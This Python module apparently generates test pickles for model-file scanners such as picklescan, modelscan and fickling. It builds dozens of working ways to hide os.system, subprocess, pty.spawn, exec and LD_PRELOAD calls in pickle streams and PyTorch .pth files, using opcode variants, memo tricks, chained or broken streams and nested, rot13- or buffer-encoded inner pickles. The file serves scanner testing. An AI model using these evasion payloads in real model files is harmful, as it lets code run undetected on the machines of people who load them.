"""Ways to write the same call in opcodes, to break or chain streams, and to hide one pickle in another."""

import struct

from gadgets import CODE, COMMAND, DOCS, FICKLING, MODELSCAN, PICKLESCAN, SEEK
from opcodes import Ops, build, call, name, old_name, pickled, push, text

SYSTEM = name("os", "system")
RUN = call(SYSTEM, COMMAND)
OLD = b"cos\nsystem\n(Vecho marker\ntR."
EVIL = pickled(RUN)
HONEST = pickled({"epoch": 3, "weights": [0.5, 1.5]})
MACHINE = DOCS + "pickletools.html"
NULLIFAI = "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"


def long_text(value):
    raw = value.encode()
    return Ops(b"\x8d" + struct.pack("<Q", len(raw)) + raw)


def memo(index):
    return Ops(b"h" + bytes([index]))


def put(index):
    return b"q" + bytes([index])


def args(*items):
    return push(items)


def opcodes():
    """(file, technique, source, bytes)"""
    for protocol in range(6):
        body = old_name("os", "system") + b"(Vecho marker\nt" + b"R." if protocol < 2 else (
            old_name("os", "system") + b"X\x0b\0\0\0echo marker\x85R." if protocol < 4 else RUN + b"."
        )
        head = b"" if protocol < 2 else b"\x80" + bytes([protocol])
        if protocol == 1:
            body = old_name("os", "system") + b"(X\x0b\0\0\0echo markertR."
        if protocol >= 4:
            body = b"\x95" + struct.pack("<Q", len(body)) + body
        yield f"protocol{protocol}", f"protocol {protocol} as Python writes it", DOCS + "pickle.html", head + body
    yield "proto_zero", "PROTO 0, which no pickler writes and every reader takes", MACHINE, b"\x80\x00" + OLD
    yield "proto_one", "PROTO 1, which no pickler writes and every reader takes", MACHINE, b"\x80\x01" + OLD
    yield "no_proto", "opcodes of protocol 4 without PROTO", MACHINE, RUN + b"."
    yield "late_proto", "an object pushed and dropped before PROTO", MACHINE, b"N0\x80\x04" + RUN + b"."
    yield "inst", "INST", PICKLESCAN.replace("security/advisories/", "issues/13"), b"\x80\x02(Vecho marker\nios\nsystem\n."
    yield "inst_no_proto", "INST in protocol 0", PICKLESCAN.replace("security/advisories/", "issues/13"), b"(Vecho marker\nios\nsystem\n."
    yield "obj", "OBJ", FICKLING.replace("security/advisories/", "pull/108"), b"\x80\x02(" + old_name("pty", "spawn") + b"Vid\no."
    yield "newobj", "NEWOBJ", MACHINE, b"\x80\x04" + name("subprocess", "Popen") + args(["echo"]) + b"\x81."
    yield "newobj_ex", "NEWOBJ_EX", MACHINE, b"\x80\x04" + name("subprocess", "Popen") + args(["echo"]) + push({}) + b"\x92."
    yield "build_setstate", "BUILD calls the __setstate__ that was put on the class", SEEK, pickled(
        build(call(name("builtins", "type"), "C", (), {"__setstate__": name("builtins", "exec")}), CODE))
    for width, op in ((1, b"\x82"), (2, b"\x83"), (4, b"\x84")):
        code = (7).to_bytes(width, "little")
        yield f"ext{width}", f"EXT{width}: a name from the table of extensions", MACHINE, b"\x80\x02" + op + code + b"(Vecho marker\ntR."
    yield "persid", "the call is inside a persistent id", MACHINE, b"\x80\x02" + old_name("os", "system") + b"(Vecho marker\ntRQ."
    for kind, one, two in (
        ("unicode", b"Vos\n", b"Vsystem\n"),
        ("string", b"S'os'\n", b"S'system'\n"),
        ("string_escaped", b"S'\\x6fs'\n", b"S'sys\\x74em'\n"),
        ("unicode_escaped", b"V\\u006fs\n", b"Vsys\\u0074em\n"),
        ("binstring", b"T\x02\0\0\0os", b"T\x06\0\0\0system"),
        ("short_binstring", b"U\x02os", b"U\x06system"),
        ("binunicode8", long_text("os"), long_text("system")),
    ):
        yield f"stack_global_{kind}", f"STACK_GLOBAL of names pushed as {kind}", MODELSCAN + "313", b"\x80\x04" + one + two + b"\x93" + args(COMMAND) + b"R."
    yield "beside_utf8_name", "a name beyond ASCII beside the hostile one", MACHINE, pickled([old_name("émoi", "ß"), RUN])

    allowed = [text("collections"), text("OrderedDict")]
    evil = [text("os"), text("system")]
    yield "memo_put_then_memoize", "PUT and MEMOIZE count differently: memo says OrderedDict to one, system to the other", \
        PICKLESCAN.replace("security/advisories/", "issues/14"), (
            b"\x80\x04" + evil[0] + put(0) + b"0" + evil[1] + put(1) + b"0" + allowed[0] + b"\x940" + allowed[1] + b"\x940"
            + memo(0) + memo(1) + b"\x93" + args(COMMAND) + b"R.")
    yield "memo_memoize_overwrites", "MEMOIZE takes the number of memos, not the highest index plus one", \
        PICKLESCAN.replace("security/advisories/", "issues/14"), (
            b"\x80\x04" + allowed[0] + put(1) + b"0" + evil[0] + b"\x940" + allowed[1] + put(2) + b"0" + evil[1] + b"\x940"
            + memo(1) + memo(2) + b"\x93" + args(COMMAND) + b"R.")
    yield "memo_overwritten", "a memo index written twice", PICKLESCAN.replace("security/advisories/", "issues/22"), (
        b"\x80\x04" + allowed[0] + put(0) + b"0" + evil[0] + put(0) + b"0" + allowed[1] + put(1) + b"0" + evil[1] + put(1) + b"0"
        + memo(0) + memo(1) + b"\x93" + args(COMMAND) + b"R.")
    yield "memo_of_the_function", "the function is recalled from the memo behind harmless names", MACHINE, (
        b"\x80\x04" + SYSTEM + put(7) + b"0" + b"".join(allowed) + b"\x930" + memo(7) + args(COMMAND) + b"R.")
    yield "memo_far_index", "a memo index of a million first", MACHINE, b"\x80\x02Nr\x40\x42\x0f\x000" + OLD
    yield "memo_spaced_index", "GET and PUT with a blank before the number", MACHINE, b"\x80\x02Np 5\n0g 5\n0" + OLD
    yield "memo_loop", "a list that holds itself first", MACHINE, b"\x80\x04]q\x00h\x00a0" + RUN + b"."
    yield "dup", "DUP between name and arguments", MACHINE, b"\x80\x04" + SYSTEM + b"2" + args(COMMAND) + b"R0."
    yield "pop_result", "the call's result is dropped and an honest value returned", FICKLING + "GHSA-r7v6-mfhq-g3m2", \
        b"\x80\x04" + RUN + b"0" + push({"epoch": 3}) + b"."
    yield "pop_mark_result", "the same by POP_MARK", FICKLING + "GHSA-r7v6-mfhq-g3m2", b"\x80\x04(" + RUN + b"NN1" + push({"epoch": 3}) + b"."
    yield "pop_mark_name", "POP drops a MARK below the name", MACHINE, b"\x80\x04(0" + RUN + b"."
    yield "padding_between_names", "values pushed and dropped between the two names", MODELSCAN + "85", (
        b"\x80\x04" + evil[0] + b"N0" + evil[1] + b"(K\x01M\x02\x031" + b"\x93" + args(COMMAND) + b"R.")
    yield "used_result", "the result becomes part of a state dictionary", SEEK, pickled({"weights": [1.0, RUN], "epoch": 3})
    yield "as_key", "the call is a dictionary's key", SEEK, b"\x80\x04}" + RUN + b"Ns."
    yield "deep", "the call lies under two hundred lists", SEEK, b"\x80\x04" + b"]" * 200 + RUN + b"a" * 200 + b"."
    yield "after_many", "the call follows fifty thousand harmless values", SEEK, b"\x80\x04]" + b"(" + b"K\x01" * 50_000 + b"e0" + RUN + b"."
    yield "uncalled", "named, put into the object, not called", DOCS + "pickle.html", pickled({"activation": SYSTEM})
    yield "own_class", "a class of a package nobody knows", DOCS + "pickle.html", pickled(build(call(name("modelhub_utils.net", "Net")), {"a": 1}))
    yield "main_class", "a function of __main__", DOCS + "pickle.html", pickled(call(name("__main__", "setup"), COMMAND))
    yield "setitem_on_call", "SETITEM on what os.environ is", SEEK, b"\x80\x04" + name("os", "environ") + text("LD_PRELOAD") + text("/tmp/x.so") + b"s."
    yield "append_to_path", "APPEND to sys.path", SEEK, b"\x80\x04" + name("sys", "path") + text("/tmp/deepfix-safety") + b"a."
    yield "odd_numbers", "numbers in spellings that few readers know", MACHINE, (
        b"\x80\x02I0x10\n0L-5\n0I 7\n0F1e3\n0\x8a\x000\x8b\x01\x00\x00\x00\x050" + OLD)
    yield "buffers", "BYTEARRAY8, FROZENSET, ADDITEMS and READONLY_BUFFER first", MACHINE, (
        b"\x80\x05\x96\x03\0\0\0\0\0\0\0abc0\x8f(K\x01K\x02\x900(K\x01\x910" + RUN + b".")


def broken():
    """(file, technique, source, bytes, what a loader would do)"""
    runs = "runs the call, then fails"
    yield "no_stop", "the stream ends without STOP after the call", NULLIFAI, EVIL[:-1], runs
    yield "cut_in_value", "the stream ends inside a value after the call", NULLIFAI, EVIL[:-1] + b"X\xff\xff\0\0abc", runs
    yield "unknown_opcode", "an opcode that does not exist after the call", NULLIFAI, EVIL[:-1] + b"\xfe\xfe\xfe", runs
    yield "unknown_opcode_old", "the same in protocol 0", NULLIFAI, OLD[:-1] + b"\xfe\xfe\xfe", runs
    yield "empty_stack", "takes from an empty stack after the call", NULLIFAI, EVIL[:-1] + b"000R.", runs
    yield "no_mark", "goes back to a mark that is not there after the call", NULLIFAI, EVIL[:-1] + b"t.", runs
    yield "missing_memo", "recalls a missing memo after the call", NULLIFAI, EVIL[:-1] + b"h\x63.", runs
    yield "bad_text", "text that is no UTF-8 after the call", NULLIFAI, EVIL[:-1] + b"\x8c\x02\xff\xfe.", runs
    yield "bad_number", "a number that is none after the call", NULLIFAI, EVIL[:-1] + b"Iabc\n.", runs
    yield "short_frame", "a FRAME that says fewer bytes than follow", MACHINE, b"\x80\x04\x95\x04\0\0\0\0\0\0\0" + RUN + b".", "runs the call"
    yield "many_frames", "FRAMEs of zero bytes between the opcodes", MACHINE, (
        b"\x80\x04" + (b"\x95" + bytes(8)) + SYSTEM + (b"\x95" + bytes(8)) + args(COMMAND) + b"R."), "runs the call"
    yield "second", "the second pickle of a file that is read in a loop", DOCS + "pickle.html", HONEST + EVIL, "runs it at the second load"
    yield "second_old", "the same, the second in protocol 0", DOCS + "pickle.html", HONEST + OLD, "runs it at the second load"
    yield "sixth", "the sixth pickle", DOCS + "pickle.html", HONEST * 5 + EVIL, "runs it at the sixth load"
    yield "first_of_two", "the first of two", DOCS + "pickle.html", EVIL + HONEST, "runs the call"
    yield "second_broken", "the second pickle, which breaks after the call", NULLIFAI, HONEST + EVIL[:-1] + b"\xfe", "runs it at the second load"
    yield "megabyte_after", "a megabyte of zeros behind the pickle", SEEK, EVIL + bytes(1 << 20), "runs the call"
    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
    protocol = b"\x80\x02M\xe9\x03."
    system = pickled({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, 2)
    keys = pickled([], 2)
    legacy = "PyTorch before 1.6; torch.serialization._legacy_load"
    loads = "torch.load reads the pickles one after another and runs it"
    yield "legacy_object.pth", "old PyTorch layout, the object's pickle", legacy, magic + protocol + system + EVIL + keys, loads
    yield "legacy_object_old.pth", "old PyTorch layout, the object's pickle in protocol 0", legacy, magic + protocol + system + OLD + keys, loads
    yield "legacy_object_inst.pth", "old PyTorch layout, the object's pickle by INST without PROTO", legacy, \
        magic + protocol + system + b"(Vecho marker\nios\nsystem\n." + keys, loads
    yield "legacy_object_broken.pth", "old PyTorch layout, the object's pickle breaks after the call", legacy, \
        magic + protocol + system + EVIL[:-1] + b"\xfe", loads
    yield "legacy_keys.pth", "old PyTorch layout, the storage keys' pickle", legacy, magic + protocol + system + keys + EVIL, loads
    yield "legacy_keys_old.pth", "old PyTorch layout, the storage keys' pickle in protocol 0", legacy, magic + protocol + system + keys + OLD, loads
    yield "legacy_system.pth", "old PyTorch layout, the pickle that tells the system", legacy, magic + protocol + EVIL + keys + keys, loads
    yield "legacy_magic.pth", "old PyTorch layout, instead of the magic number", PICKLESCAN + "GHSA-97f8-7cmv-76j2", EVIL + protocol + system + keys + keys, \
        "torch.load runs it before it looks at the number"
    yield "legacy_magic_by_eval.pth", "old PyTorch layout, the magic number is computed by eval", PICKLESCAN + "GHSA-97f8-7cmv-76j2", \
        pickled(call(name("builtins", "eval"), "0x1950a86a20f9469cfc6c")) + protocol + system + keys + keys, "torch.load runs it"


LOAD = name("torch.storage", "_load_from_bytes")


def latin(data):
    """Bytes as protocol 2 writes them: text, and the call that encodes it."""
    return call(name("_codecs", "encode"), data.decode("latin-1"), "latin1")


def nested(archive):
    """(file, technique, source, bytes); `archive` is a hostile torch archive."""
    source = "torch.storage._load_from_bytes, which weights_only loading does not know but lists of names often allow"
    deep = EVIL
    for _ in range(6):
        deep = pickled(call(LOAD, deep))
    yield "bytes", "a pickle in bytes that torch.storage._load_from_bytes loads", source, pickled(call(LOAD, EVIL))
    yield "long_bytes", "the same in BINBYTES8", source, b"\x80\x04" + LOAD + b"\x8e" + struct.pack("<Q", len(EVIL)) + EVIL + b"\x85R."
    yield "bytearray", "the same in BYTEARRAY8", source, b"\x80\x05" + LOAD + b"\x96" + struct.pack("<Q", len(EVIL)) + EVIL + b"\x85R."
    yield "old_protocol", "the inner pickle is of protocol 0", source, pickled(call(LOAD, OLD))
    yield "inst", "the inner pickle calls by INST", source, pickled(call(LOAD, b"(Vecho marker\nios\nsystem\n."))
    yield "late_proto", "the inner pickle begins with a value pushed and dropped", source, pickled(call(LOAD, b"N0" + EVIL))
    yield "proto_zero", "the inner pickle says protocol 0", source, pickled(call(LOAD, b"\x80\x00" + OLD))
    yield "archive", "a torch archive in bytes", source, pickled(call(LOAD, archive))
    yield "latin", "the inner pickle as text, encoded while loading, as protocol 2 stores bytes", source, pickled(call(LOAD, latin(EVIL)))
    yield "latin_old", "the same with an inner pickle of protocol 0", source, pickled(call(LOAD, latin(OLD)))
    turned = OLD.decode().translate(str.maketrans(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", "NOPQRSTUVWXYZABCDEFGHIJKLMnopqrstuvwxyzabcdefghijklm"))
    yield "rot13", "the inner pickle as text, turned by rot13 and encoded while loading", source, \
        pickled(call(LOAD, call(name("_codecs", "encode"), call(name("_codecs", "encode"), turned, "rot_13"), "latin1")))
    yield "numbers", "the inner pickle as a list of numbers, made a bytearray while loading", source, \
        pickled(call(LOAD, call(name("builtins", "bytearray"), list(EVIL))))
    yield "text_bytearray", "the inner pickle as text, made a bytearray while loading", source, \
        pickled(call(LOAD, call(name("builtins", "bytearray"), EVIL.decode("latin-1"), "latin1")))
    yield "six_deep", "six pickles within each other", source, deep
    yield "second", "the second pickle of the bytes, in the old torch layout", source, pickled(call(LOAD, b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19." + EVIL))
    yield "pickle_loads_text", "pickle.loads of encoded text", MODELSCAN + "267", pickled(call(name("pickle", "loads"), latin(EVIL)))
    yield "in_state", "bytes in a BUILD state, loaded by a name from the same state", source, \
        pickled(build(call(name("argparse", "Namespace")), {"a": call(LOAD, EVIL)}))
    array = call(name("numpy._core.multiarray", "_reconstruct"), name("numpy", "ndarray"), (0,), b"b")
    dtype = call(name("numpy", "dtype"), "u1", False, True)
    yield "array", "the inner pickle is the buffer of a NumPy array, which BytesIO takes", source, \
        pickled(call(LOAD, build(array, (1, (len(OLD),), dtype, False, OLD))))
